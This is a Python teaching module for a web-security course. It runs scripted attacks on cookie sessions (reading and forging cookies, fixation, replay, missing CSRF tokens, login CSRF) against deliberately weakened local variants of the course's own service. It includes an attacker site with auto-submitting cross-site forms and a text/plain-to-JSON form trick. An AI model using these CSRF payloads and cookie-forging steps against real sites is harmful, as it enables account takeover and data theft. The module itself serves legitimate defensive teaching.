"""Lesson 06: attacks on cookie sessions.

In process (the scene's client on ``https://testserver``, so that Secure cookies travel), each
a real request to the service after lesson 06 with one of its session designs plugged in:

- **read** the session data out of a client-held cookie with base64 alone: itsdangerous signs,
  it does not encrypt (ASVS 5.0 3.3.4; the errata of this lesson);
- **forge** a cookie that says ``role: admin`` without the key. This fails even against the
  naive client-held cookie, because signing works; it succeeds only against a server that
  reads the payload without checking the signature (``loads_unsafe``);
- **fixation**: a session id planted in the victim's browser before she logs in is logged in
  as her afterwards (ASVS 7.2.4);
- **replay after logout**, and the cookie of a **deleted account** (ASVS 7.4.1, 7.4.2);
- a session **idle** for 45 minutes, or **logged in 9 hours ago** (ASVS 7.3.1, 7.3.2);
- a **write with the cookie and no CSRF token** (ASVS 3.5.1);
- **login CSRF**: a login posted by another site's page, with mallory's own credentials, logs
  the victim's browser into mallory's account; whatever alice then writes, mallory reads.

Over the network (two real uvicorn servers with lesson 04's TLS on loopback, and
``lessons.browser.Browser``): a **form post** from a page on another port of the same host, a
session id **planted** by that page before login, and the **login CSRF** form on a page of
another site. The scene's cast have random passwords; mallory is the attacker, with an ordinary
account of her own.

The helpers that log in with a session cookie take a ``Scene`` (``lessons.attacks``).
"""

from __future__ import annotations

import base64
import html
import json
import zlib
from dataclasses import dataclass, field
from typing import Any

import httpx2
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from lessons import sessions
from lessons.attacks import (
    ATTACKER,
    LEAVER,
    VICTIM,
    Account,
    Attack,
    AttackResult,
    Scene,
    SceneError,
    Variant,
)
from lessons.browser import Browser, parse_set_cookie
from lessons.tls import certificates as tls

COOKIE, CSRF_HEADER = sessions.COOKIE, sessions.CSRF_HEADER

# The designs the attacks run against: the service after lesson 06 with other session seams.
CLIENT_HELD = Variant(6, seams=sessions.CLIENT_HELD_LAYER,
                      label="the session in the cookie (username and role, signed)")
UNCHECKED = Variant(6, seams=sessions.UNCHECKED_LAYER,
                    label="the session in the cookie, read without checking the signature")
NAIVE = Variant(6, seams=sessions.NAIVE_LAYER,
                label="server-side sessions without rotation, timeouts, logout or CSRF checks")
# The reference of lesson 06 as it was before the origin check: CSRF tokens for writes, and
# nothing at all for the login.
BEFORE_ORIGIN_CHECK = Variant(6, seams={"origin_ok": sessions.origin_unchecked},
                              label="lesson 06 without the origin check")

# What another site's page looks like to the service, for the in-process attacks.
MALLORY_ORIGIN = "https://mallory.example"
FROM_MALLORYS_SITE = {"Origin": MALLORY_ORIGIN, "Sec-Fetch-Site": "cross-site"}


# -- what is inside a cookie, read without the key ---------------------------------------------


def unb64url(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def decode_without_key(cookie: str) -> Any:
    """The first dot-separated part of a cookie, decoded with base64 alone: the JSON it holds
    (itsdangerous' serializers put it there, zlib-compressed when a leading dot says so), or
    the raw bytes when it is not JSON."""
    first = cookie[1:].split(".")[0] if cookie.startswith(".") else cookie.split(".")[0]
    try:
        raw = unb64url(first)
        if cookie.startswith("."):
            raw = zlib.decompress(raw)
    except (ValueError, zlib.error):
        return b""
    try:
        return json.loads(raw)
    except (UnicodeDecodeError, ValueError):
        return raw


def describe_cookie(cookie: str) -> str:
    """A cookie's shape, without its secret parts: the length of each dot-separated part."""
    return ".".join(f"<{len(part)} chars>" for part in cookie.split("."))


def set_cookie_attributes(response: httpx2.Response) -> dict[str, dict[str, str]]:
    """Every cookie a response sets, by name, with its attributes (values left out)."""
    found = {}
    for header in response.headers.get_list("set-cookie"):
        name, _value, attributes = parse_set_cookie(header)
        found[name] = attributes
    return found


def cookie_from(response: httpx2.Response) -> str | None:
    """The value the response sets for the session cookie, if any."""
    for header in response.headers.get_list("set-cookie"):
        name, value, attributes = parse_set_cookie(header)
        if name == COOKIE and attributes.get("max-age") != "0" and value:
            return value
    return None


# -- logging in with a session cookie, on a scene -----------------------------------------------


def request(scene: Scene, method: str, path: str, *, cookie: str | None = None,
            csrf: str | None = None, headers: dict[str, str] | None = None,
            **options: Any) -> httpx2.Response:
    """One request of the scene's client, carrying exactly the cookie given (no jar)."""
    sent = dict(headers or {})
    if cookie is not None:
        sent["Cookie"] = f"{COOKIE}={cookie}"
    if csrf is not None:
        sent[CSRF_HEADER] = csrf
    scene.client.cookies.clear()
    try:
        return scene.client.request(method, path, headers=sent, **options)
    finally:
        scene.client.cookies.clear()


def login_response(scene: Scene, username: str, cookie: str | None = None,
                   headers: dict[str, str] | None = None) -> httpx2.Response:
    """``POST /session/login`` with ``username``'s password, and the cookie given, if any."""
    account = scene.accounts[username]
    return request(scene, "POST", "/session/login", cookie=cookie, headers=headers,
                   data={"username": account.username, "password": account.password})


def login(scene: Scene, username: str, cookie: str | None = None) -> tuple[str, str]:
    """Log in through ``POST /session/login``: the cookie value and the CSRF token."""
    response = login_response(scene, username, cookie)
    value = cookie_from(response)
    if response.status_code != 204 or value is None:
        raise SceneError(f"{username} could not log in: POST /session/login answered "
                         f"{response.status_code} {response.text[:120]}")
    return value, response.headers.get(CSRF_HEADER, "")


def me(scene: Scene, cookie: str) -> httpx2.Response:
    return request(scene, "GET", "/session/me", cookie=cookie)


def age_sessions(scene: Scene, *, idle: int = 0, age: int = 0) -> None:
    """Setting the scene: move every stored session ``idle`` seconds further from its last
    request and ``age`` seconds further from its login, as time passing would."""
    with scene.store.transaction() as db:
        db.execute("UPDATE sessions SET last_seen = last_seen - ?, created_at = created_at - ?",
                   (idle, age))


def _judge_me(name: str, response: httpx2.Response, as_user: str,
              before: str = "") -> AttackResult:
    body = response.json() if response.headers.get("content-type") == "application/json" else {}
    succeeded = response.status_code == 200 and body.get("username") == as_user
    outcome = (f"HTTP 200, signed in as {body.get('username')}" if response.status_code == 200
               else f"HTTP {response.status_code}: {body.get('detail', response.reason_phrase)}")
    return AttackResult(name=name, succeeded=succeeded, evidence=before + outcome)


# -- the attacks, in process --------------------------------------------------------------------


def read_cookie(scene: Scene) -> AttackResult:
    """Log in as yourself and read your cookie with base64 alone: no key needed."""
    cookie, _ = login(scene, ATTACKER)
    data = decode_without_key(cookie)
    readable = isinstance(data, dict)
    if readable:
        evidence = f"the cookie's first part decodes to {json.dumps(data, sort_keys=True)}"
    else:
        evidence = (f"the cookie's first part decodes to {len(data)} random bytes: an id that "
                    "means nothing without the server's record")
    return AttackResult("read the session data out of the cookie, without the key",
                        succeeded=readable and "role" in data, evidence=evidence)


def forge_cookie(scene: Scene) -> AttackResult:
    """Take your own cookie, make its data say ``role: admin``, keep the rest, and call the
    admin route with it."""
    cookie, _ = login(scene, ATTACKER)
    data = decode_without_key(cookie)
    claims = data if isinstance(data, dict) else {"username": ATTACKER}
    forged_data = b64url(json.dumps({**claims, "role": "admin"}, separators=(",", ":")).encode())
    rest = cookie.split(".", 1)[1] if "." in cookie else ""
    forged = f"{forged_data}.{rest}"
    response = request(scene, "GET", "/admin/users", cookie=forged)
    listed = response.status_code == 200 and isinstance(response.json(), list)
    detail = "" if listed else f": {response.json().get('detail', '')}"
    return AttackResult("forge a cookie saying role admin, without the key",
                        succeeded=listed,
                        evidence=f"GET /admin/users with the forged cookie: HTTP "
                                 f"{response.status_code}{detail}")


def fixation(scene: Scene) -> AttackResult:
    """Plant your own session's cookie in alice's browser; after she logs in, use your copy."""
    planted, _ = login(scene, ATTACKER)
    response = login_response(scene, VICTIM, cookie=planted)
    issued = cookie_from(response)
    kept = "kept the planted session id" if issued == planted else "issued a new session id"
    return _judge_me("session fixation: a planted cookie, used after alice logs in",
                     me(scene, planted), VICTIM,
                     before=f"alice's login {kept}; the planted copy then gets ")


def replay_after_logout(scene: Scene) -> AttackResult:
    """Keep a copy of alice's cookie (a log, a shared computer) and use it after she logs out."""
    cookie, csrf = login(scene, VICTIM)
    logout = request(scene, "POST", "/session/logout", cookie=cookie, csrf=csrf)
    return _judge_me("replay alice's cookie after she logged out", me(scene, cookie), VICTIM,
                     before=f"logout answered {logout.status_code}; the copy then gets ")


def deleted_account(scene: Scene) -> AttackResult:
    """bob's account is deleted by an admin; his cookie is used afterwards."""
    cookie, _ = login(scene, LEAVER)
    scene.store.delete_user(LEAVER)
    return _judge_me("use the cookie of a deleted account", me(scene, cookie), LEAVER,
                     before="bob's account deleted; his cookie then gets ")


def idle_session(scene: Scene) -> AttackResult:
    """A cookie left behind 45 minutes ago (idle timeout: 30 minutes)."""
    cookie, _ = login(scene, VICTIM)
    age_sessions(scene, idle=45 * 60, age=45 * 60)
    return _judge_me("a session idle for 45 minutes", me(scene, cookie), VICTIM,
                     before="after 45 minutes without a request: ")


def old_session(scene: Scene) -> AttackResult:
    """A session in use all day: logged in 9 hours ago, last request a minute ago."""
    cookie, _ = login(scene, VICTIM)
    age_sessions(scene, idle=60, age=9 * 3600)
    return _judge_me("a session logged in 9 hours ago, still in use", me(scene, cookie), VICTIM,
                     before="9 hours after login: ")


def missing_token(scene: Scene) -> AttackResult:
    """A write with alice's cookie and nothing else: no CSRF token, and no ``Origin`` or
    ``Sec-Fetch-Site`` header either (what a browser too old to send them would send for a
    form on another page), so the token is the only thing that can stop it."""
    cookie, _ = login(scene, VICTIM)
    forged = request(scene, "POST", "/session/logout", cookie=cookie)
    accepted = forged.status_code == 204
    return AttackResult("a write with alice's cookie and no CSRF token (a forged request)",
                        succeeded=accepted,
                        evidence=f"POST /session/logout without {CSRF_HEADER}: HTTP "
                                 f"{forged.status_code}"
                                 + (": the service did what another page asked" if accepted
                                    else ""))


def login_csrf(scene: Scene) -> AttackResult:
    """mallory's page, on another site, posts a login form with mallory's own username and
    password; alice's browser sends it, and keeps the session cookie the answer sets. From
    then on alice uses mallory's account without knowing: whatever she writes, mallory
    reads."""
    answer = login_response(scene, ATTACKER, headers=FROM_MALLORYS_SITE)
    planted = cookie_from(answer)
    evidence = f"POST /session/login from {MALLORY_ORIGIN} (Sec-Fetch-Site: cross-site): " \
               f"HTTP {answer.status_code}"
    if planted is None:
        detail = _detail(answer)
        return AttackResult("login CSRF: mallory's page logs alice's browser into mallory's "
                            "account", succeeded=False,
                            evidence=f"{evidence}: {detail}" if detail
                            else f"{evidence}; no session cookie was set")
    # alice, unaware, saves a note with the session her browser now holds.
    title = "alice's travel plans"
    saved = request(scene, "POST", "/notes", cookie=planted,
                    csrf=answer.headers.get(CSRF_HEADER, ""),
                    json={"title": title, "body": "Away from the 3rd to the 17th."})
    mallory, _ = login(scene, ATTACKER)
    found = title in [n["title"] for n in request(scene, "GET", "/notes", cookie=mallory).json()]
    return AttackResult(
        "login CSRF: mallory's page logs alice's browser into mallory's account",
        succeeded=found,
        evidence=(f"{evidence}, a session cookie set; the note alice then saves (HTTP "
                  f"{saved.status_code}) is in mallory's account: {'yes' if found else 'no'}"),
    )


def _detail(response: httpx2.Response) -> str:
    """The ``detail`` of an error answer, or nothing."""
    try:
        body = response.json()
    except ValueError:
        return ""
    return str(body.get("detail", "")) if isinstance(body, dict) else ""


# -- over the network: another page, a browser, two real servers --------------------------------


@dataclass
class EvilSite:
    """mallory's web pages, served from another origin. ``target`` is the service's origin;
    ``planted`` a session cookie value to plant in visitors' browsers (fixation);
    ``credentials`` the username and password her login form posts (login CSRF)."""

    target: str
    planted: str = ""
    credentials: tuple[str, str] = field(default=("", ""), repr=False)
    # (path, names of the cookies the visitor's browser sent with it): what the site learns.
    received: list[tuple[str, tuple[str, ...]]] = field(default_factory=list)

    def app(self) -> Starlette:
        def page(body: str, *, auto_submit: bool = True) -> HTMLResponse:
            onload = ' onload="document.forms[0].submit()"' if auto_submit else ""
            return HTMLResponse(f"<!doctype html><html><body{onload}>{body}</body></html>")

        async def record(request: Request) -> None:
            self.received.append((request.url.path, tuple(request.cookies)))

        async def logout(request: Request) -> Response:
            await record(request)
            return page(f'<h1>Win a prize!</h1><form method="post" '
                        f'action="{html.escape(self.target)}/session/logout"></form>')

        async def note(request: Request) -> Response:
            await record(request)
            # The classic trick to make a form's text/plain body look like JSON.
            name = html.escape('{"title": "Hello from mallory", "body": "', quote=True)
            return page(f'<form method="post" enctype="text/plain" '
                        f'action="{html.escape(self.target)}/notes">'
                        f'<input name="{name}" value="&quot;}}"></form>')

        async def plant(request: Request) -> Response:
            await record(request)
            response = page("<p>Nothing to see here.</p>", auto_submit=False)
            if self.planted:
                # Legal for this host: HTTPS, Path=/, no Domain. Ports do not separate cookies,
                # so the service on another port of the same host will receive it.
                response.set_cookie(COOKIE, self.planted, path="/", secure=True,
                                    httponly=True, samesite="lax")
            return response

        async def login(request: Request) -> Response:
            await record(request)
            username, password = (html.escape(value, quote=True) for value in self.credentials)
            # The form logs the browser in as mallory; a second later the page sends the
            # visitor on to the service, now signed in to mallory's account. (The Python
            # browser runs no script: the attack asks GET /session/me itself.)
            onward = json.dumps(f"{self.target}/session/me")  # our own URL: no markup in it
            return page(f'<h1>Loading...</h1><form method="post" '
                        f'action="{html.escape(self.target)}/session/login">'
                        f'<input type="hidden" name="username" value="{username}">'
                        f'<input type="hidden" name="password" value="{password}"></form>'
                        f"<script>setTimeout(() => {{ location.href = {onward}; }}, 1000);"
                        "</script>")

        return Starlette(routes=[Route("/logout", logout), Route("/note", note),
                                 Route("/plant", plant), Route("/login", login)])


@dataclass
class Network:
    """The service and mallory's site, each on its own HTTPS port of 127.0.0.1."""

    service_url: str
    evil_port: int
    evil: EvilSite
    ca_file: Any

    def evil_url(self, host: str = "127.0.0.1") -> str:
        """mallory's site as a browser reaches it: on the same host as the service (another
        port, the *same site*), or as ``localhost`` (another site)."""
        return f"https://{host}:{self.evil_port}"

    def browser(self) -> Browser:
        return Browser(ca_file=self.ca_file)


def network(scene: Scene, app: Any = None) -> Network:
    """Serve the scene's service (or ``app``, say one wrapped to record requests) and
    mallory's site over HTTPS on two free loopback ports, with lesson 04's local CA in the
    scene's folder. Both stop when the scene closes."""
    files = tls.ensure_certificates(scene.folder)
    options = {"certfile": files.certfile, "keyfile": files.keyfile}
    service = scene.serve(app, **options)
    attacker = scene.accounts[ATTACKER]
    evil = EvilSite(target=service.url, credentials=(attacker.username, attacker.password))
    site = scene.serve(evil.app(), **options)
    return Network(service.url, site.port, evil, files.ca_file)


def browser_login(browser: Browser, service_url: str, account: Account) -> httpx2.Response:
    """Log in the way the service's own web page would: a same-origin request from its page."""
    return browser.fetch("POST", f"{service_url}/session/login", page=f"{service_url}/",
                         data={"username": account.username, "password": account.password})


def _relation(evil_host: str) -> str:
    return "same site, another port" if evil_host == "127.0.0.1" else "another site"


def cross_site_form_post(net: Network, victim: Account, evil_host: str = "127.0.0.1",
                         ) -> AttackResult:
    """alice is logged in, and visits mallory's page, which posts a form to the service's
    ``POST /session/logout`` as soon as it loads. Did the forged request go through?"""
    with net.browser() as browser:
        login = browser_login(browser, net.service_url, victim)
        if login.status_code != 204:
            raise SceneError(f"alice could not log in: HTTP {login.status_code}")
        page = browser.visit(f"{net.evil_url(evil_host)}/logout")
        forged = browser.submit(page)
        sent = browser.history[-1]
        still = browser.fetch("GET", f"{net.service_url}/session/me",
                              page=f"{net.service_url}/").status_code == 200
    carried = ", ".join(sent.cookies) or "no cookie"
    return AttackResult(
        name=f"a form on mallory's page ({_relation(evil_host)}) posts to POST /session/logout",
        succeeded=forged.status_code == 204,
        evidence=(f"the browser sent {carried} (Sec-Fetch-Site: {sent.fetch_site}); "
                  f"HTTP {forged.status_code}; alice is "
                  f"{'still logged in' if still else 'logged out'}"),
    )


def planted_fixation(net: Network, attacker: Account, victim: Account) -> AttackResult:
    """mallory logs in herself, and her page on another port of the same host plants her
    session cookie in alice's browser. alice logs in. Is mallory's copy now alice?"""
    with net.browser() as mallory, net.browser() as alice:
        if browser_login(mallory, net.service_url, attacker).status_code != 204:
            raise SceneError("mallory could not log in")
        own = next(c.value for c in mallory.jar if c.name == COOKIE)
        net.evil.planted = own
        alice.visit(f"{net.evil_url()}/plant")
        planted = COOKIE in alice.cookie_names(net.service_url)
        browser_login(alice, net.service_url, victim)
        fixated = any(c.name == COOKIE and c.value == own for c in alice.jar)
        me = mallory.fetch("GET", f"{net.service_url}/session/me", page=f"{net.service_url}/")
    return _judge_me("a session id planted by a page on another port, then alice logs in",
                     me, victim.username,
                     before=(f"planted: {'yes' if planted else 'no'}; alice's login "
                             f"{'kept' if fixated else 'replaced'} it; mallory's copy gets "))


def login_csrf_form(net: Network, evil_host: str = "localhost") -> AttackResult:
    """alice, not logged in, visits mallory's page. It posts a login form to the service with
    mallory's username and password as soon as it loads. Is alice's browser now logged in as
    mallory?"""
    with net.browser() as alice:
        page = alice.visit(f"{net.evil_url(evil_host)}/login")
        answer = alice.submit(page)
        sent = alice.history[-1]
        me = alice.fetch("GET", f"{net.service_url}/session/me", page=f"{net.service_url}/")
    return _judge_me(f"login CSRF: a form on mallory's page ({_relation(evil_host)}) logs "
                     "alice's browser in", me, ATTACKER,
                     before=(f"the login form's POST (Sec-Fetch-Site: {sent.fetch_site}) got "
                             f"HTTP {answer.status_code}; then alice's own page asks GET "
                             "/session/me: "))


# -- the lesson's attacks, each on a scene of its own ----------------------------------------------


def _form_post(scene: Scene) -> AttackResult:
    return cross_site_form_post(network(scene), scene.accounts[VICTIM])


def _planted(scene: Scene) -> AttackResult:
    return planted_fixation(network(scene), scene.accounts[ATTACKER], scene.accounts[VICTIM])


def _login_form(scene: Scene) -> AttackResult:
    return login_csrf_form(network(scene))


# Every one is stopped by the reference of lesson 06.
ATTACKS: tuple[Attack, ...] = (
    Attack("read_cookie", "read the session data out of the cookie, without the key",
           read_cookie, CLIENT_HELD, fixed_in=6),
    Attack("forge_cookie", "forge a cookie saying role admin, without the key",
           forge_cookie, UNCHECKED, fixed_in=6),
    Attack("fixation", "a session id planted before alice logs in is hers afterwards",
           fixation, NAIVE, fixed_in=6),
    Attack("replay_after_logout", "replay alice's cookie after she logged out",
           replay_after_logout, NAIVE, fixed_in=6),
    Attack("deleted_account", "use the cookie of a deleted account", deleted_account,
           CLIENT_HELD, fixed_in=6),
    Attack("idle_session", "a session idle for 45 minutes", idle_session, NAIVE, fixed_in=6),
    Attack("old_session", "a session logged in 9 hours ago, still in use", old_session,
           NAIVE, fixed_in=6),
    Attack("missing_token", "a write with alice's cookie and no CSRF token", missing_token,
           NAIVE, fixed_in=6),
    Attack("login_csrf", "another site's login form logs alice in as mallory", login_csrf,
           BEFORE_ORIGIN_CHECK, fixed_in=6),
    Attack("form_post_same_site", "a form on another port of the same host posts with "
           "alice's cookie", _form_post, NAIVE, fixed_in=6, network=True),
    Attack("planted_fixation", "a page on another port plants mallory's session before "
           "alice logs in", _planted, NAIVE, fixed_in=6, network=True),
    Attack("login_csrf_form", "a login form on another site's page, in a browser",
           _login_form, BEFORE_ORIGIN_CHECK, fixed_in=6, network=True),
)
IN_PROCESS = tuple(attack for attack in ATTACKS if not attack.network)
BY_ID = {attack.id: attack for attack in ATTACKS}
